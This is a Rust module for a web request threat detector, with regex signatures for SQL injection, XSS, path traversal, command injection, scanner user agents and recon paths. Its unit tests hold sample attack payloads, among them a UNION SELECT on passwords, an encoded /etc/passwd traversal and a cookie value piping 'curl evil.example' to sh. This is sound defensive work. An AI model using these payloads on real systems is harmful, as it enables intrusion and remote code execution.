//! Pattern-based threat detection.
//!
//! Each request is matched against compiled signatures grouped by
//! category. The path is matched against path-only signatures (sensitive
//! files, admin consoles), the user agent against scanner fingerprints, and
//! every inspected location against the generic injection signatures.

use std::fmt;

use percent_encoding::percent_decode_str;
use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::error::PolicyError;
use crate::models::ThreatConfig;

use super::request::RequestFacts;

/// Threat category
#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
#[serde(rename_all = "snake_case")]
pub enum ThreatCategory {
    SqlInjection,
    CrossSiteScripting,
    PathTraversal,
    CommandInjection,
    MaliciousUserAgent,
    Reconnaissance,
}

impl ThreatCategory {
    pub const ALL: [ThreatCategory; 6] = [
        ThreatCategory::SqlInjection,
        ThreatCategory::CrossSiteScripting,
        ThreatCategory::PathTraversal,
        ThreatCategory::CommandInjection,
        ThreatCategory::MaliciousUserAgent,
        ThreatCategory::Reconnaissance,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            ThreatCategory::SqlInjection => "sql_injection",
            ThreatCategory::CrossSiteScripting => "cross_site_scripting",
            ThreatCategory::PathTraversal => "path_traversal",
            ThreatCategory::CommandInjection => "command_injection",
            ThreatCategory::MaliciousUserAgent => "malicious_user_agent",
            ThreatCategory::Reconnaissance => "reconnaissance",
        }
    }

    pub fn index(&self) -> usize {
        match self {
            ThreatCategory::SqlInjection => 0,
            ThreatCategory::CrossSiteScripting => 1,
            ThreatCategory::PathTraversal => 2,
            ThreatCategory::CommandInjection => 3,
            ThreatCategory::MaliciousUserAgent => 4,
            ThreatCategory::Reconnaissance => 5,
        }
    }

    pub fn severity(&self) -> Severity {
        match self {
            ThreatCategory::SqlInjection | ThreatCategory::CommandInjection => Severity::Critical,
            ThreatCategory::CrossSiteScripting | ThreatCategory::PathTraversal => Severity::High,
            ThreatCategory::MaliciousUserAgent => Severity::Medium,
            ThreatCategory::Reconnaissance => Severity::Low,
        }
    }

    fn target(&self) -> Target {
        match self {
            ThreatCategory::MaliciousUserAgent => Target::UserAgent,
            ThreatCategory::Reconnaissance => Target::Path,
            _ => Target::Any,
        }
    }

    pub fn parse(name: &str) -> Result<Self, PolicyError> {
        ThreatCategory::ALL
            .into_iter()
            .find(|c| c.as_str() == name)
            .ok_or_else(|| PolicyError::UnknownCategory(name.to_string()))
    }
}

impl fmt::Display for ThreatCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Threat severity; the weight is what a match adds to the IP's violations
#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum Severity {
    Low,
    Medium,
    High,
    Critical,
}

impl Severity {
    pub fn weight(&self) -> u32 {
        match self {
            Severity::Low => 1,
            Severity::Medium => 2,
            Severity::High => 3,
            Severity::Critical => 5,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target {
    Any,
    Path,
    UserAgent,
}

/// Where in the request a signature matched
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case", tag = "kind", content = "name")]
pub enum Location {
    Path,
    Uri,
    Query(String),
    Header(String),
}

impl fmt::Display for Location {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Location::Path => f.write_str("path"),
            Location::Uri => f.write_str("uri"),
            Location::Query(name) => write!(f, "query `{}`", name),
            Location::Header(name) => write!(f, "header `{}`", name),
        }
    }
}

/// A detected threat
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct ThreatMatch {
    pub category: ThreatCategory,
    pub severity: Severity,
    pub location: Location,
    /// Matched text, at most 64 characters
    pub snippet: String,
}

struct Signature {
    category: ThreatCategory,
    regex: Regex,
}

const SNIPPET_LIMIT: usize = 64;

const BUILTIN_SIGNATURES: &[(ThreatCategory, &str)] = &[
    (ThreatCategory::SqlInjection, r"\bunion(\s+all)?\s+select\b"),
    (ThreatCategory::SqlInjection, r#"['"]\s*(or|and)\s+['"]?\w+['"]?\s*(=|like\b)"#),
    (ThreatCategory::SqlInjection, r"\b(or|and)\s+(\d+)\s*=\s*(\d+)\b"),
    (ThreatCategory::SqlInjection, r";\s*(drop|delete|truncate|alter|insert|update)\s+\w+"),
    (ThreatCategory::SqlInjection, r"\b(sleep|benchmark|pg_sleep)\s*\(|\bwaitfor\s+delay\b"),
    (ThreatCategory::SqlInjection, r"\b(information_schema|xp_cmdshell)\b"),
    (ThreatCategory::SqlInjection, r"'\s*--"),
    (ThreatCategory::CrossSiteScripting, r"<\s*script\b"),
    (ThreatCategory::CrossSiteScripting, r"javascript\s*:"),
    (ThreatCategory::CrossSiteScripting, r"\bon(error|load|click|mouseover|focus|submit)\s*="),
    (ThreatCategory::CrossSiteScripting, r"<\s*(iframe|object|embed|svg)\b"),
    (ThreatCategory::CrossSiteScripting, r"document\.(cookie|location)"),
    (ThreatCategory::PathTraversal, r"\.\./|\.\.\\"),
    (ThreatCategory::PathTraversal, r"/etc/(passwd|shadow)|\bboot\.ini\b|\\windows\\system32"),
    (ThreatCategory::PathTraversal, r"\x00"),
    (ThreatCategory::CommandInjection, r"[;&|]\s*(cat|ls|id|whoami|wget|curl|nc|bash|sh|rm)\b"),
    (ThreatCategory::CommandInjection, r"\$\([^)]*\)"),
    (ThreatCategory::CommandInjection, r"`[^`]+`"),
    (
        ThreatCategory::MaliciousUserAgent,
        r"sqlmap|nikto|nmap|masscan|dirbuster|gobuster|acunetix|nessus|wpscan|zgrab|havij",
    ),
    (
        ThreatCategory::Reconnaissance,
        r"/(\.env|\.git|\.svn|\.htaccess|wp-admin|wp-login\.php|phpmyadmin|server-status|actuator)(/|$)",
    ),
];

/// Pattern-based threat detector
pub struct ThreatDetector {
    enabled: bool,
    signatures: Vec<Signature>,
    scan_headers: Vec<String>,
    max_uri_length: usize,
}

impl ThreatDetector {
    pub fn new(config: &ThreatConfig) -> Result<Self, PolicyError> {
        let mut signatures = Vec::with_capacity(BUILTIN_SIGNATURES.len() + config.extra_patterns.len());

        for (category, pattern) in BUILTIN_SIGNATURES {
            signatures.push(compile(*category, pattern)?);
        }
        for extra in &config.extra_patterns {
            let category = ThreatCategory::parse(&extra.category)?;
            signatures.push(compile(category, &extra.pattern)?);
        }

        Ok(Self {
            enabled: config.enabled,
            signatures,
            scan_headers: config
                .scan_headers
                .iter()
                .map(|h| h.to_ascii_lowercase())
                .collect(),
            max_uri_length: config.max_uri_length,
        })
    }

    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Scan a request. Each category is reported at most once.
    pub fn scan(&self, facts: &RequestFacts) -> Vec<ThreatMatch> {
        let mut matches: Vec<ThreatMatch> = Vec::new();
        if !self.enabled {
            return matches;
        }

        if self.max_uri_length > 0 && facts.uri_len() > self.max_uri_length {
            matches.push(ThreatMatch {
                category: ThreatCategory::Reconnaissance,
                severity: ThreatCategory::Reconnaissance.severity(),
                location: Location::Uri,
                snippet: format!("oversized URI ({} bytes)", facts.uri_len()),
            });
        }

        let path = facts.decoded_path();
        self.scan_value(&path, Location::Path, true, false, &mut matches);

        for (name, value) in facts.query_pairs() {
            self.scan_value(&name, Location::Query(name.clone()), false, false, &mut matches);
            self.scan_value(&value, Location::Query(name), false, false, &mut matches);
        }

        for header in &self.scan_headers {
            let value = match facts.header(header) {
                Some(value) => value,
                None => continue,
            };
            let location = Location::Header(header.clone());
            match header.as_str() {
                "user-agent" => self.scan_value(value, location, false, true, &mut matches),
                "referer" | "origin" => {
                    for part in url_parts(value) {
                        self.scan_value(&part, location.clone(), false, false, &mut matches);
                    }
                }
                "cookie" => {
                    for part in cookie_parts(value) {
                        self.scan_value(&part, location.clone(), false, false, &mut matches);
                    }
                }
                _ => self.scan_value(value, location, false, false, &mut matches),
            }
        }

        matches
    }

    fn scan_value(
        &self,
        value: &str,
        location: Location,
        is_path: bool,
        is_agent: bool,
        matches: &mut Vec<ThreatMatch>,
    ) {
        if value.is_empty() {
            return;
        }

        for signature in &self.signatures {
            let applies = match signature.category.target() {
                Target::Any => true,
                Target::Path => is_path,
                Target::UserAgent => is_agent,
            };
            if !applies || matches.iter().any(|m| m.category == signature.category) {
                continue;
            }

            if let Some(found) = signature.regex.find(value) {
                matches.push(ThreatMatch {
                    category: signature.category,
                    severity: signature.category.severity(),
                    location: location.clone(),
                    snippet: found.as_str().chars().take(SNIPPET_LIMIT).collect(),
                });
            }
        }
    }
}

/// Decoded path, query names and query values of a URL-valued header.
/// Separators such as `&` never reach the signatures.
fn url_parts(value: &str) -> Vec<String> {
    let value = value.split('#').next().unwrap_or_default();
    let (base, query) = value.split_once('?').unwrap_or((value, ""));

    let mut parts = vec![percent_decode_str(base).decode_utf8_lossy().into_owned()];
    for (name, val) in url::form_urlencoded::parse(query.as_bytes()) {
        parts.push(name.into_owned());
        parts.push(val.into_owned());
    }
    parts
}

/// Decoded names and values of a `Cookie` header
fn cookie_parts(value: &str) -> Vec<String> {
    value
        .split(';')
        .flat_map(|pair| {
            let (name, val) = pair.split_once('=').unwrap_or((pair, ""));
            [name.trim(), val.trim()]
        })
        .filter(|part| !part.is_empty())
        .map(|part| percent_decode_str(part).decode_utf8_lossy().into_owned())
        .collect()
}

fn compile(category: ThreatCategory, pattern: &str) -> Result<Signature, PolicyError> {
    let regex = Regex::new(&format!("(?i){}", pattern)).map_err(|e| PolicyError::InvalidPattern {
        pattern: pattern.to_string(),
        reason: e.to_string(),
    })?;
    Ok(Signature { category, regex })
}

/// Total violation weight of a set of matches
pub fn total_weight(matches: &[ThreatMatch]) -> u32 {
    matches.iter().map(|m| m.severity.weight()).sum()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::PatternConfig;

    fn detector() -> ThreatDetector {
        ThreatDetector::new(&ThreatConfig::default()).unwrap()
    }

    fn request(path: &str, query: &str) -> RequestFacts {
        RequestFacts {
            method: "GET".to_string(),
            path: path.to_string(),
            query: query.to_string(),
            headers: vec![("user-agent".to_string(), "Mozilla/5.0".to_string())],
            client_ip: "203.0.113.1".to_string(),
            user_id: None,
        }
    }

    fn categories(matches: &[ThreatMatch]) -> Vec<ThreatCategory> {
        matches.iter().map(|m| m.category).collect()
    }

    #[test]
    fn test_clean_requests_pass() {
        let detector = detector();
        let clean = [
            request("/api/v1/properties", "city=Porto&bedrooms=3&sort=price_desc"),
            request("/api/v1/properties/42/viewings", ""),
            request("/api/v1/users/me", "fields=name,email"),
            request("/api/v1/search", "q=sea+view+apartment+with+garden"),
        ];
        for facts in &clean {
            assert!(detector.scan(facts).is_empty(), "false positive on {:?}", facts);
        }
    }

    #[test]
    fn test_sql_injection() {
        let detector = detector();

        let union = detector.scan(&request("/api/v1/properties", "id=1%20UNION%20SELECT%20password%20FROM%20users"));
        assert_eq!(categories(&union), vec![ThreatCategory::SqlInjection]);
        assert_eq!(union[0].location, Location::Query("id".to_string()));
        assert_eq!(union[0].severity, Severity::Critical);

        let tautology = detector.scan(&request("/login", "user=admin'%20OR%20'1'='1"));
        assert_eq!(categories(&tautology), vec![ThreatCategory::SqlInjection]);

        let numeric = detector.scan(&request("/api/v1/properties", "id=5%20or%201=1"));
        assert_eq!(categories(&numeric), vec![ThreatCategory::SqlInjection]);
    }

    #[test]
    fn test_xss() {
        let matches = detector().scan(&request("/api/v1/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"));
        assert_eq!(categories(&matches), vec![ThreatCategory::CrossSiteScripting]);
        assert_eq!(matches[0].snippet, "<script");
    }

    #[test]
    fn test_path_traversal_encoded() {
        let matches = detector().scan(&request("/static/%2e%2e/%2e%2e/etc/passwd", ""));
        assert_eq!(categories(&matches), vec![ThreatCategory::PathTraversal]);
        assert_eq!(matches[0].location, Location::Path);
    }

    #[test]
    fn test_command_injection() {
        let matches = detector().scan(&request("/api/v1/export", "file=report.csv;cat%20/etc/hosts"));
        assert!(categories(&matches).contains(&ThreatCategory::CommandInjection));
    }

    #[test]
    fn test_scanner_user_agent() {
        let mut facts = request("/", "");
        facts.headers = vec![("user-agent".to_string(), "sqlmap/1.7.2#stable".to_string())];
        let matches = detector().scan(&facts);
        assert_eq!(categories(&matches), vec![ThreatCategory::MaliciousUserAgent]);
        assert_eq!(matches[0].location, Location::Header("user-agent".to_string()));

        // Scanner names only count in the user agent
        let other = detector().scan(&request("/api/v1/search", "q=nmap"));
        assert!(other.is_empty());
    }

    #[test]
    fn test_referer_and_cookie_separators_are_not_threats() {
        let mut facts = request("/api/v1/properties/42", "");
        facts.headers = vec![
            ("user-agent".to_string(), "Mozilla/5.0".to_string()),
            (
                "referer".to_string(),
                "https://homes.example/properties?city=Porto&id=42&ls=1".to_string(),
            ),
            ("cookie".to_string(), "session=abc123; id=42; theme=dark|compact".to_string()),
        ];
        assert!(detector().scan(&facts).is_empty());
    }

    #[test]
    fn test_payloads_inside_referer_and_cookie() {
        let mut referer = request("/", "");
        referer.headers = vec![(
            "referer".to_string(),
            "https://homes.example/search?q=%3Cscript%3Ealert(1)%3C/script%3E".to_string(),
        )];
        let matches = detector().scan(&referer);
        assert_eq!(categories(&matches), vec![ThreatCategory::CrossSiteScripting]);
        assert_eq!(matches[0].location, Location::Header("referer".to_string()));

        let mut cookie = request("/", "");
        cookie.headers = vec![("cookie".to_string(), "session=x; pref=1%27%20OR%20%271%27=%271".to_string())];
        assert_eq!(categories(&detector().scan(&cookie)), vec![ThreatCategory::SqlInjection]);

        let mut shell = request("/", "");
        shell.headers = vec![("cookie".to_string(), "export=%24(curl%20evil.example%7Csh)".to_string())];
        assert!(categories(&detector().scan(&shell)).contains(&ThreatCategory::CommandInjection));
    }

    #[test]
    fn test_reconnaissance_only_on_path() {
        let matches = detector().scan(&request("/.env", ""));
        assert_eq!(categories(&matches), vec![ThreatCategory::Reconnaissance]);
        assert_eq!(matches[0].severity, Severity::Low);

        assert!(detector().scan(&request("/api/v1/search", "q=/.env")).is_empty());
    }

    #[test]
    fn test_oversized_uri() {
        let config = ThreatConfig {
            max_uri_length: 32,
            ..ThreatConfig::default()
        };
        let detector = ThreatDetector::new(&config).unwrap();
        let matches = detector.scan(&request("/api/v1/properties", "description=aaaaaaaaaaaaaaaaaaaa"));
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].location, Location::Uri);
    }

    #[test]
    fn test_each_category_reported_once() {
        let matches = detector().scan(&request(
            "/api/v1/search",
            "a=%3Cscript%3E&b=javascript:alert(1)&c=UNION%20SELECT%201",
        ));
        assert_eq!(
            categories(&matches),
            vec![ThreatCategory::CrossSiteScripting, ThreatCategory::SqlInjection]
        );
        assert_eq!(total_weight(&matches), 8);
    }

    #[test]
    fn test_extra_patterns() {
        let config = ThreatConfig {
            extra_patterns: vec![PatternConfig {
                category: "reconnaissance".to_string(),
                pattern: r"/internal/".to_string(),
            }],
            ..ThreatConfig::default()
        };
        let detector = ThreatDetector::new(&config).unwrap();
        let matches = detector.scan(&request("/internal/reindex", ""));
        assert_eq!(categories(&matches), vec![ThreatCategory::Reconnaissance]);
    }

    #[test]
    fn test_invalid_patterns_rejected() {
        let bad_regex = ThreatConfig {
            extra_patterns: vec![PatternConfig {
                category: "sql_injection".to_string(),
                pattern: "(unclosed".to_string(),
            }],
            ..ThreatConfig::default()
        };
        assert!(matches!(
            ThreatDetector::new(&bad_regex),
            Err(PolicyError::InvalidPattern { .. })
        ));

        let bad_category = ThreatConfig {
            extra_patterns: vec![PatternConfig {
                category: "phishing".to_string(),
                pattern: "x".to_string(),
            }],
            ..ThreatConfig::default()
        };
        assert!(matches!(
            ThreatDetector::new(&bad_category),
            Err(PolicyError::UnknownCategory(_))
        ));
    }

    #[test]
    fn test_disabled_detector() {
        let config = ThreatConfig {
            enabled: false,
            ..ThreatConfig::default()
        };
        let detector = ThreatDetector::new(&config).unwrap();
        assert!(detector.scan(&request("/.env", "q=%3Cscript%3E")).is_empty());
    }
}
